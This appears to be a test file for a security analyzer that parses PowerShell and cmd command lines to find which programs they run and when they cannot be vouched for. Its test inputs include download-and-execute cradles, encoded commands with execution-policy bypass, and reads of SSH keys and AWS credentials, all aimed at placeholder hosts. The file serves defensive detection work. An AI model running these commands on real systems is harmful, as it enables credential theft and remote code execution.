@@ -1,0 +1,457 @@
+// The PowerShell frontend: what runs (programs, wrappers, cwd, .NET types, word values) or why it cannot vouch.
+import { existsSync, readFileSync } from 'node:fs';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { type Analyzer, createAnalyzer } from '../src/analyzer.js';
+import { splitCmd } from '../src/powershell/cmd.js';
+import { NODE_HANDLING } from '../src/powershell/index.js';
+import { joinPath } from '../src/powershell/lower.js';
+import { decodeEncodedCommand } from '../src/powershell/shells.js';
+import type { Analysis } from '../src/types.js';
+
+const HOME = 'C:\\Users\\me';
+const CWD = 'C:\\work';
+
+let analyzer: Analyzer;
+beforeAll(async () => {
+  // A generous parse budget: these tests are about lowering, and the test machine is shared.
+  analyzer = await createAnalyzer({ limits: { timeoutMs: 5000 } });
+});
+
+function run(command: string): Analysis {
+  return analyzer.analyze({ command, shell: 'powershell', cwd: CWD, home: HOME });
+}
+
+const programs = (a: Analysis): string[] => a.invocations.map((i) => i.program).sort();
+const floors = (a: Analysis): string[] => a.findings.filter((f) => f.kind === 'cannot-vouch').map((f) => f.rule);
+const invocation = (a: Analysis, program: string) => a.invocations.find((i) => i.program === program);
+const argValues = (a: Analysis, program: string): (string | null)[] | undefined =>
+  invocation(a, program)?.args.map((w) => (w.values ? w.values.join('|') : null));
+
+const enc = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
+
+/** [command line, every program it runs (any order), the cannot-vouch rule it must raise or null for none]. */
+type Case = [string, string[], string | null];
+
+const NAMES: Case[] = [
+  ['iwr https://example.com', ['invoke-webrequest'], null],
+  ['irm https://example.com/api', ['invoke-restmethod'], null],
+  ['Invoke-WebRequest -Uri https://x -OutFile a.zip', ['invoke-webrequest'], null],
+  ['INVOKE-webREQUEST x', ['invoke-webrequest'], null],
+  ['curl https://x', ['curl'], null],
+  ['wget https://x', ['wget'], null],
+  ['curl.exe -s https://x', ['curl'], null],
+  ['C:\\Windows\\System32\\curl.exe https://x', ['curl'], null],
+  ['& "C:\\Program Files\\Git\\usr\\bin\\ssh.exe" host', ['ssh'], null],
+  ["& 'curl.exe' https://x", ['curl'], null],
+  ['& ./tools/build.cmd', ['build'], null],
+  ['.\\build.bat x', ['build'], null],
+  ['C:\\tools\\RUN.COM', ['run'], null],
+  ['i`wr https://x', ['invoke-webrequest'], null],
+  ['gc a.txt', ['get-content'], null],
+  ['cat a.txt', ['get-content'], null],
+  ['type a.txt', ['get-content'], null],
+  ['gci', ['get-childitem'], null],
+  ['ls -Force', ['get-childitem'], null],
+  ['dir C:\\', ['get-childitem'], null],
+  ['gi x', ['get-item'], null],
+  ['gcm iwr', ['get-command'], null],
+  ['saps notepad', ['notepad', 'start-process'], null],
+  ['start notepad', ['notepad', 'start-process'], null],
+  ['icm { hostname }', ['hostname', 'invoke-command'], null],
+  ['1..3 | % { $_ }', ['foreach-object'], null],
+  ['7z x a.zip', ['7z'], null],
+  ['ls | ? { $_.Length -gt 1 }', ['get-childitem', 'where-object'], null],
+  ['echo hi', ['write-output'], null],
+  ['write hi', ['write-output'], null],
+  ['sc a.txt hi', ['set-content'], null],
+  ['ac a.txt hi', ['add-content'], null],
+  ['cd C:\\x', ['set-location'], null],
+  ['sl C:\\x', ['set-location'], null],
+  ['chdir C:\\x', ['set-location'], null],
+  ['git status', ['git'], null],
+  ['npm.cmd test', ['npm'], null],
+  ['Get-Process | Sort-Object CPU | Select-Object -First 5', ['get-process', 'select-object', 'sort-object'], null],
+];
+
+const STATEMENTS: Case[] = [
+  ['a; b', ['a', 'b'], null],
+  ['a\nb', ['a', 'b'], null],
+  ['a && b || c', ['a', 'b', 'c'], null],
+  ['if ($x) { a } elseif ($y) { b } else { c }', ['a', 'b', 'c'], null],
+  ['switch ($x) {\n 1 { a }\n default { b }\n}', ['a', 'b'], null],
+  ['foreach ($i in 1..3) { a $i }', ['a'], null],
+  ['for ($i = 0; $i -lt 3; $i++) { a }', ['a'], null],
+  ['while ($true) { a; break }', ['a'], null],
+  ['do { a } while ($x)', ['a'], null],
+  ['do { a } until ($x)', ['a'], null],
+  ['try { a } catch [System.Exception] { b } finally { c }', ['a', 'b', 'c'], null],
+  ['trap { a } b', ['a', 'b'], null],
+  ['function f { a }; f', ['a', 'f'], null],
+  ['function f($u) { iwr $u }', ['invoke-webrequest'], null],
+  ['filter f { a $_ }', ['a'], null],
+  ['Write-Output $(a) @(b) (c)', ['a', 'b', 'c', 'write-output'], null],
+  ['$x = a | b', ['a', 'b'], null],
+  ['echo hi > out.txt', ['write-output'], null],
+  ['a 2>&1 | b', ['a', 'b'], null],
+  ['"x" | a', ['a'], null],
+  ['class A { [void] M() { a } }', ['a'], null],
+  ['$h = @{ k = (a) }', ['a'], null],
+  ['"$(a)"', ['a'], null],
+  ['@"\n$(a)\n"@', ['a'], null],
+  ['Get-Item x -ErrorAction SilentlyContinue', ['get-item'], null],
+  ['return (iwr x)', ['invoke-webrequest'], null],
+  ['[int]$n = 3; a $n', ['a'], null],
+  ['enum E { A = 1 }', [], null],
+  ['$a[0] = b', ['b'], null],
+];
+
+const INVOCATION: Case[] = [
+  ['& $x', [], 'vouch.dynamic-command'],
+  ['& (gcm iwr) https://x', ['get-command'], 'vouch.dynamic-command'],
+  ['$c = "iwr"; & $c https://x', ['invoke-webrequest'], null],
+  ["$c = 'cu' + 'rl'; & $c https://x", ['curl'], null],
+  ['& ("iw" + "r") https://x', ['invoke-webrequest'], null],
+  ['$c = "ls"; if ($y) { $c = "iwr" }; & $c', [], 'vouch.dynamic-command'],
+  ['foreach ($c in $list) { & $c }', [], 'vouch.dynamic-command'],
+  ['function f($c) { & $c }', [], 'vouch.dynamic-command'],
+  ['. $script', [], 'vouch.dynamic-command'],
+  ['& $env:ComSpec /c set', [], 'vouch.dynamic-command'],
+  ['$(gcm iwr).Invoke()', ['get-command'], null],
+  ['iex $x', ['invoke-expression'], 'vouch.dynamic-script'],
+  ['iex (iwr https://x)', ['invoke-expression', 'invoke-webrequest'], 'vouch.dynamic-script'],
+  ['iwr https://x | iex', ['invoke-expression', 'invoke-webrequest'], 'vouch.dynamic-script'],
+  ["'hostname' | iex", ['hostname', 'invoke-expression'], null],
+  ["iex 'iwr https://x'", ['invoke-expression', 'invoke-webrequest'], null],
+  ["Invoke-Expression -Command 'curl x'", ['curl', 'invoke-expression'], null],
+  ['iex "$(hostname)"', ['hostname', 'invoke-expression'], 'vouch.dynamic-script'],
+  ['Set-Alias foo iwr; foo https://x', ['invoke-webrequest', 'set-alias'], null],
+  ['New-Alias -Name g -Value git; g status', ['git', 'new-alias'], null],
+  ['Set-Alias a1 iwr; Set-Alias a2 a1; a2 x', ['invoke-webrequest', 'set-alias', 'set-alias'], null],
+  ['if ($x) { Set-Alias foo iwr }; foo', ['set-alias'], 'vouch.dynamic-command'],
+  ['Set-Alias $n iwr', ['set-alias'], 'vouch.dynamic-command'],
+  ['sv c iwr; & $c https://x', ['invoke-webrequest', 'set-variable'], null],
+  ['Start-Process curl.exe -ArgumentList "-s https://x"', ['curl', 'start-process'], null],
+  ['Start-Process -FilePath powershell -ArgumentList "-c iwr x"', ['invoke-webrequest', 'powershell', 'start-process'], null],
+  ['Start-Process $exe', ['start-process'], 'vouch.dynamic-command'],
+  ['Invoke-Command -ScriptBlock { iwr https://x }', ['invoke-command', 'invoke-webrequest'], null],
+  ['Invoke-Command -ScriptBlock $sb', ['invoke-command'], 'vouch.dynamic-script'],
+  ['Invoke-Command -FilePath s.ps1 -ComputerName h', ['invoke-command'], null],
+  ['Start-Job { a }', ['a', 'start-job'], null],
+  ['$ExecutionContext.InvokeCommand.InvokeScript("iwr x")', [], 'vouch.dynamic-code'],
+  ['[scriptblock]::Create($s).Invoke()', [], 'vouch.dynamic-code'],
+  ['[powershell]::Create().AddScript("a").Invoke()', [], 'vouch.dynamic-code'],
+  ['Add-Type -TypeDefinition $src', ['add-type'], 'vouch.dynamic-code'],
+  ['New-Object -ComObject WScript.Shell', ['new-object'], 'vouch.dynamic-code'],
+  ['New-Item alias:x -Value iwr', ['new-item'], 'vouch.dynamic-code'],
+  ['New-Object $t', ['new-object'], 'vouch.dynamic-code'],
+  ['& { iwr https://x }', ['invoke-webrequest'], null],
+  ['. { a }', ['a'], null],
+  ['{ a }.Invoke()', ['a'], null],
+  ['$sb = { a }; & $sb', ['a'], null],
+  ['ls | % $sb', ['foreach-object', 'get-childitem'], 'vouch.dynamic-script'],
+  ['ls | % Name', ['foreach-object', 'get-childitem'], null],
+  ['echo @args', ['write-output'], null],
+  ['[Diagnostics.Process]::Start("curl.exe", "https://x")', ['curl'], null],
+  ['[System.Diagnostics.Process]::Start($p)', [], 'vouch.dynamic-command'],
+  ['gc x -OutVariable c; & $c', ['get-content'], 'vouch.dynamic-command'],
+];
+
+const NESTED: Case[] = [
+  ['powershell -Command "iwr https://x"', ['invoke-webrequest', 'powershell'], null],
+  ['pwsh -c "irm https://x"', ['invoke-restmethod', 'pwsh'], null],
+  ['powershell -comm "curl x"', ['curl', 'powershell'], null],
+  ['powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "curl x"', ['curl', 'powershell'], null],
+  ['pwsh -nop -w hidden -c iwr https://x', ['invoke-webrequest', 'pwsh'], null],
+  [`powershell -EncodedCommand ${enc('iwr https://x')}`, ['invoke-webrequest', 'powershell'], null],
+  [`powershell -enc ${enc('curl.exe x')}`, ['curl', 'powershell'], null],
+  [`pwsh -e ${enc('irm x')}`, ['invoke-restmethod', 'pwsh'], null],
+  [`powershell -ec ${enc('gci env:')}`, ['get-childitem', 'powershell'], null],
+  [`powershell -enc ${enc(`powershell -enc ${enc('wget x')}`)}`, ['powershell', 'powershell', 'wget'], null],
+  ['powershell -enc !!!notbase64', ['powershell'], 'vouch.dynamic-script'],
+  ['powershell -File build.ps1', ['powershell'], null],
+  ['pwsh ./build.ps1 -Release', ['pwsh'], null],
+  ['powershell -c $cmd', ['powershell'], 'vouch.dynamic-script'],
+  ['gc s.ps1 | powershell -NoProfile', ['get-content', 'powershell'], 'vouch.stream-to-shell'],
+  ['powershell -Frobnicate x', ['powershell'], 'vouch.dynamic-script'],
+  ['cmd /c set', ['cmd', 'set'], null],
+  ['cmd.exe /c "set & curl x"', ['cmd', 'curl', 'set'], null],
+  ['cmd /c "echo a && type b | findstr c"', ['cmd', 'echo', 'findstr', 'type'], null],
+  ['cmd /k dir', ['cmd', 'dir'], null],
+  ['cmd /c "if 1==1 curl x"', ['cmd'], 'vouch.dynamic-script'],
+  ['cmd /c "(curl x)"', ['cmd'], 'vouch.dynamic-script'],
+  ['cmd /c "cu^rl x"', ['cmd', 'curl'], null],
+  ['cmd /c "set PATH"', ['cmd', 'set'], null],
+  ['cmd /c "%COMSPEC% /c set"', ['cmd'], 'vouch.dynamic-command'],
+  ['cmd /c "powershell -c iwr x"', ['cmd', 'invoke-webrequest', 'powershell'], null],
+  ['cmd /c "start /b curl x"', ['cmd', 'curl', 'start'], null],
+  ['cmd /c $x', ['cmd'], 'vouch.dynamic-script'],
+  ['bash -c $x', ['bash'], 'vouch.dynamic-script'],
+  ['bash script.sh', ['bash'], null],
+  ['wsl --list', ['wsl'], null],
+];
+
+const GAPS: Case[] = [
+  ['iex(New-Object Net.WebClient).DownloadString("https://x")', ['invoke-expression', 'new-object'], 'vouch.dynamic-script'],
+  ['switch ($x) { "a" { iwr https://x } default { b } }', ['b', 'invoke-webrequest'], null],
+  ['function f { param($a) iwr $a }', ['invoke-webrequest'], null],
+  ['gc `~/.ssh/id_rsa', ['get-content'], null],
+  ['type $env:USERPROFILE\\.ssh\\id_rsa', ['get-content'], null],
+  ['# only a comment', [], null],
+  ['./x.ps1 a', [], 'vouch.parse-error'],
+];
+
+describe.each([
+  ['names and aliases', NAMES],
+  ['statements and nesting', STATEMENTS],
+  ['invocation', INVOCATION],
+  ['nested shells', NESTED],
+  ['grammar gaps', GAPS],
+] as const)('%s', (_title, table) => {
+  it.each(table)('%s', (command, expected, floorRule) => {
+    const a = run(command);
+    expect(programs(a)).toEqual([...expected].sort());
+    if (floorRule === null) expect(floors(a)).toEqual([]);
+    else expect(floors(a)).toContain(floorRule);
+    for (const s of a.segments) expect(s.dialect).toBe('powershell');
+  });
+});
+
+describe('bash re-entry', () => {
+  it.each(['bash -c "curl https://x"', 'wsl curl https://x', 'sh -lc "ls"'])('%s hands the script to the bash frontend', (command) => {
+    const a = run(command);
+    expect(a.invocations[0]?.program).toMatch(/^(bash|wsl|sh)$/);
+    expect(a.invocations[0]?.wraps).toBe(true);
+    expect(floors(a).filter((r) => r !== 'vouch.parse-error')).not.toContain('vouch.dynamic-script');
+  });
+});
+
+describe('location chains', () => {
+  const cases: [string, string, string | null][] = [
+    ['cd C:\\repo; gc x', 'get-content', 'C:\\repo'],
+    ['Set-Location -Path C:\\a; cd ..\\b; gc x', 'get-content', 'C:\\b'],
+    ['sl ~; gc x', 'get-content', HOME],
+    ['cd $env:USERPROFILE; gc x', 'get-content', HOME],
+    ['cd $HOME\\proj; gc x', 'get-content', `${HOME}\\proj`],
+    ['Push-Location C:\\x; Pop-Location; gc y', 'get-content', CWD],
+    ['pushd C:\\x; gc y', 'get-content', 'C:\\x'],
+    ['pushd C:\\x; popd; gc y', 'get-content', CWD],
+    ['cd $x; gc y', 'get-content', null],
+    ['if ($a) { cd C:\\x }; gc y', 'get-content', null],
+    ['chdir sub; gc y', 'get-content', 'C:\\work\\sub'],
+    ['& { cd C:\\x }; gc y', 'get-content', 'C:\\x'],
+    ['cd C:\\x && gc y', 'get-content', 'C:\\x'],
+    ['cmd /c "cd /d C:\\x && type y"', 'type', 'C:\\x'],
+    ["iex 'cd C:\\x'; gc y", 'get-content', null],
+  ];
+  it.each(cases)('%s', (command, program, cwd) => {
+    const inv = invocation(run(command), program);
+    expect(inv?.cwd).toBe(cwd);
+  });
+
+  it('gives the segment its directory too', () => {
+    const a = run('cd C:\\repo; git status');
+    const git = invocation(a, 'git');
+    expect(a.segments[git?.segment ?? -1]?.cwd).toBe('C:\\repo');
+  });
+});
+
+describe('word values', () => {
+  const cases: [string, string, (string | null)[]][] = [
+    ["gc '~/.ssh/id_rsa'", 'get-content', [`${HOME}/.ssh/id_rsa`]],
+    ['gc ~\\.aws\\credentials', 'get-content', [`${HOME}\\.aws\\credentials`]],
+    ['gc "$HOME/.ssh/id_rsa"', 'get-content', [`${HOME}/.ssh/id_rsa`]],
+    ['gc $env:HOME/.ssh/id_rsa', 'get-content', [`${HOME}/.ssh/id_rsa`]],
+    ['type $env:USERPROFILE\\.ssh\\id_rsa', 'get-content', [`${HOME}\\.ssh\\id_rsa`]],
+    ['gc `~/.ssh/id_rsa', 'get-content', [`${HOME}/.ssh/id_rsa`]],
+    ['gc "a`"b"', 'get-content', ['a"b']],
+    ["gc 'it''s'", 'get-content', ["it's"]],
+    ['gc "say ""hi"""', 'get-content', ['say "hi"']],
+    ['$p = "~/.ssh"; gc "$p/id_rsa"', 'get-content', [`${HOME}/.ssh/id_rsa`]],
+    ['$env:X = "~/.aws"; gc "$env:X/credentials"', 'get-content', [`${HOME}/.aws/credentials`]],
+    ['Write-Output $env:PATH', 'write-output', [null]],
+    ['Get-ChildItem -Path:env: -Force', 'get-childitem', ['-Path', 'env:', '-Force']],
+    ['gci Env:\\', 'get-childitem', ['Env:\\']],
+    ['cmd /c set', 'set', []],
+    ['echo `$HOME', 'write-output', ['$HOME']],
+    ['gc @\'\n~/.ssh/id_rsa\n\'@', 'get-content', [`${HOME}/.ssh/id_rsa`]],
+    ['iwr x `\n  -OutFile y', 'invoke-webrequest', ['x', '-OutFile', 'y']],
+    ['cmd /c --% type %USERPROFILE%\\.ssh\\id_rsa', 'type', [`${HOME}\\.ssh\\id_rsa`]],
+  ];
+  it.each(cases)('%s', (command, program, values) => {
+    expect(argValues(run(command), program)).toEqual(values);
+  });
+
+  it('marks globs', () => {
+    const w = invocation(run('gc *.pem'), 'get-content')?.args[0];
+    expect(w?.glob).toBe(true);
+  });
+
+  it('says why a splatted argument is dynamic', () => {
+    expect(invocation(run('echo @args'), 'write-output')?.args[0]?.dynamic).toBe('splatting');
+  });
+
+  it('gives $PROFILE its value, so a write to it can be matched', () => {
+    const a = run('echo hi > $PROFILE');
+    const target = a.segments.flatMap((s) => s.redirects)[0]?.target;
+    expect(target?.text).toBe('$PROFILE');
+    expect(target?.values?.[0]).toMatch(/Microsoft\.PowerShell_profile\.ps1$/);
+    expect(target?.values?.[0]?.startsWith(HOME)).toBe(true);
+  });
+
+  it('records assignments as segments', () => {
+    const a = run('$key = "~/.ssh/id_rsa"');
+    const as = a.segments.flatMap((s) => s.assignments);
+    expect(as.map((x) => x.name)).toEqual(['key']);
+    expect(as[0]?.value.values).toEqual([`${HOME}/.ssh/id_rsa`]);
+  });
+
+  it('shows the string arguments of .NET calls as words', () => {
+    const a = run('[IO.File]::ReadAllText("~/.aws/credentials")');
+    const words = a.segments.flatMap((s) => s.words.map((w) => w.values?.[0]));
+    expect(words).toContain(`${HOME}/.aws/credentials`);
+  });
+});
+
+describe('wrappers and spans', () => {
+  it('records what led to a program', () => {
+    expect(invocation(run('ls | % { iwr $_ }'), 'invoke-webrequest')?.wrappers).toEqual(['foreach-object']);
+    expect(invocation(run('cmd /c curl x'), 'curl')?.wrappers).toEqual(['cmd']);
+    expect(invocation(run('Start-Process curl'), 'curl')?.wrappers).toEqual(['start-process']);
+    expect(invocation(run('powershell -c "icm { curl x }"'), 'curl')?.wrappers).toEqual(['powershell', 'invoke-command']);
+  });
+
+  it('marks a program that runs another as wrapping it', () => {
+    const a = run('Start-Process curl');
+    expect(invocation(a, 'start-process')?.wraps).toBe(true);
+    expect(invocation(a, 'curl')?.wraps).toBeUndefined();
+  });
+
+  it('maps a nested program to where it stands in the top-level text', () => {
+    const text = "iex 'iwr https://x'";
+    const inv = invocation(run(text), 'invoke-webrequest');
+    expect(inv?.depth).toBe(1);
+    expect(text.slice(inv?.span.start, inv?.span.end)).toBe('iwr');
+  });
+
+  it('points an encoded command at the encoded word', () => {
+    const e = enc('iwr x');
+    const text = `pwsh -enc ${e}`;
+    const inv = invocation(run(text), 'invoke-webrequest');
+    expect(text.slice(inv?.span.start, inv?.span.end)).toBe(e);
+  });
+
+  it('keeps every span inside the text', () => {
+    for (const text of ['a; b | c', "iex 'x; y'", 'cmd /c "a & b"', 'switch ($x) { 1 { a } 2 { b } }']) {
+      const a = run(text);
+      for (const s of [...a.segments.map((x) => x.span), ...a.invocations.map((x) => x.span), ...a.findings.map((x) => x.span)]) {
+        expect(s.start).toBeGreaterThanOrEqual(0);
+        expect(s.end).toBeLessThanOrEqual(text.length);
+        expect(s.start).toBeLessThanOrEqual(s.end);
+      }
+    }
+  });
+});
+
+describe('.NET type uses', () => {
+  const cases: [string, { type: string; member?: string }][] = [
+    ['New-Object Net.WebClient', { type: 'net.webclient' }],
+    ['New-Object -TypeName System.Net.WebClient', { type: 'net.webclient' }],
+    ['(New-Object System.Net.WebClient).DownloadString("x")', { type: 'net.webclient' }],
+    ['[System.Net.WebClient]::new()', { type: 'net.webclient', member: 'new' }],
+    ['[Net.Http.HttpClient]::new().GetStringAsync("x")', { type: 'net.http.httpclient', member: 'new' }],
+    ['[Environment]::GetEnvironmentVariables()', { type: 'environment', member: 'getenvironmentvariables' }],
+    ['[System.Environment]::GetEnvironmentVariable("PATH")', { type: 'environment', member: 'getenvironmentvariable' }],
+    ['[Net.WebRequest]::Create("x")', { type: 'net.webrequest', member: 'create' }],
+    ['[Net.Sockets.TcpClient]::new("h", 80)', { type: 'net.sockets.tcpclient', member: 'new' }],
+    ['$x = [Environment]::UserName', { type: 'environment', member: 'username' }],
+    ['iex(New-Object Net.WebClient).DownloadString("https://x")', { type: 'net.webclient' }],
+    [`powershell -enc ${enc('[Net.WebClient]::new()')}`, { type: 'net.webclient', member: 'new' }],
+  ];
+  it.each(cases)('%s', (command, use) => {
+    const uses = run(command).typeUses.map((u) => (u.member ? { type: u.type, member: u.member } : { type: u.type }));
+    expect(uses).toContainEqual(use);
+  });
+});
+
+describe('benign lookalikes', () => {
+  it.each(['Get-Help Invoke-WebRequest', 'Get-Command iwr', 'Write-Host "use iwr"', '$env:X = 1', 'Write-Output $env:PATH'])('%s', (command) => {
+    const a = run(command);
+    expect(a.findings).toEqual([]);
+    expect(programs(a)).not.toContain('invoke-webrequest');
+  });
+});
+
+describe('cmd splitter', () => {
+  it('splits on & && || | and keeps quoted operators', () => {
+    const s = splitCmd('a "x & y" && b || c | d', HOME);
+    expect(s.ok && s.commands.map((c) => c.words.map((w) => w.value))).toEqual([['a', 'x & y'], ['b'], ['c'], ['d']]);
+    expect(s.ok && s.commands.map((c) => c.piped)).toEqual([false, false, false, true]);
+  });
+  it('honours ^ escapes and @', () => {
+    const s = splitCmd('@cu^rl a^&b', HOME);
+    expect(s.ok && s.commands[0]?.words.map((w) => w.value)).toEqual(['curl', 'a&b']);
+  });
+  it('reads redirections', () => {
+    const s = splitCmd('echo x >> %USERPROFILE%\\.bashrc 2>&1', HOME);
+    expect(s.ok && s.commands[0]?.redirects.map((r) => [r.op, r.target.value])).toEqual([['>>', `${HOME}\\.bashrc`]]);
+  });
+  it.each(['(a)', 'if x y', 'for %i in (a) do b', 'a &&', 'a ^'])('gives up on %s', (text) => {
+    expect(splitCmd(text, HOME).ok).toBe(false);
+  });
+  it('treats delayed expansion as dynamic only under /v', () => {
+    const off = splitCmd('echo !x!', HOME);
+    const on = splitCmd('echo !x!', HOME, true);
+    expect(off.ok && off.commands[0]?.words[1]?.value).toBe('!x!');
+    expect(on.ok && on.commands[0]?.words[1]?.value).toBeNull();
+  });
+});
+
+describe('helpers', () => {
+  it('decodes -EncodedCommand as UTF-16LE base64 and rejects the rest', () => {
+    expect(decodeEncodedCommand(enc('iwr x'))).toBe('iwr x');
+    expect(decodeEncodedCommand(Buffer.from('iwr x').toString('base64'))).toBeNull();
+    expect(decodeEncodedCommand('###')).toBeNull();
+  });
+  it('joins locations and folds ..', () => {
+    expect(joinPath('C:\\a\\b', '..\\c')).toBe('C:\\a\\c');
+    expect(joinPath('/home/u', '../v/./w')).toBe('/home/v/w');
+    expect(joinPath(null, 'x')).toBeNull();
+    expect(joinPath(null, 'D:\\x')).toBe('D:\\x');
+    expect(joinPath('C:\\a', 'Env:')).toBe('Env:');
+  });
+});
+
+describe('grammar coverage', () => {
+  it('handles or floors every named node type of tree-sitter-powershell', () => {
+    const types = JSON.parse(readFileSync('node_modules/tree-sitter-powershell/src/node-types.json', 'utf8')) as { type: string; named: boolean }[];
+    const unhandled = types.filter((t) => t.named && !NODE_HANDLING.has(t.type)).map((t) => t.type);
+    expect(unhandled).toEqual([]);
+  });
+
+  it('never throws and fails closed on broken input', () => {
+    for (const text of ['&', '& (', '@(', '"unterminated', '{{{{', '$(', 'iex(', '`', '--%', '| a', ')(', '[', '[x]::']) {
+      const a = run(text);
+      if (a.invocations.length === 0 && a.findings.length === 0) continue;
+      expect(a.findings.every((f) => f.kind !== 'cannot-vouch' || f.rule.startsWith('vouch.'))).toBe(true);
+    }
+  });
+
+  it('stops at a nesting limit instead of overflowing', () => {
+    const deep = `${'('.repeat(2000)}a${')'.repeat(2000)}`;
+    const a = run(deep);
+    expect(floors(a).length).toBeGreaterThan(0);
+  });
+});
+
+const TLDR = '../shared/corpora/tldr-powershell.txt';
+
+describe.skipIf(!existsSync(TLDR))('tldr-powershell corpus', () => {
+  it('analyses every line without throwing, with under 5% cannot vouch', () => {
+    const lines = readFileSync(TLDR, 'utf8')
+      .split('\n')
+      .filter((l) => l.trim() !== '');
+    const denied = lines.filter((command) => run(command).findings.some((f) => f.kind === 'cannot-vouch'));
+    expect(denied.length / lines.length).toBeLessThan(0.05);
+    expect(denied.filter((l) => !run(l).findings.some((f) => f.rule === 'vouch.parse-error'))).toEqual([]);
+  });
+});
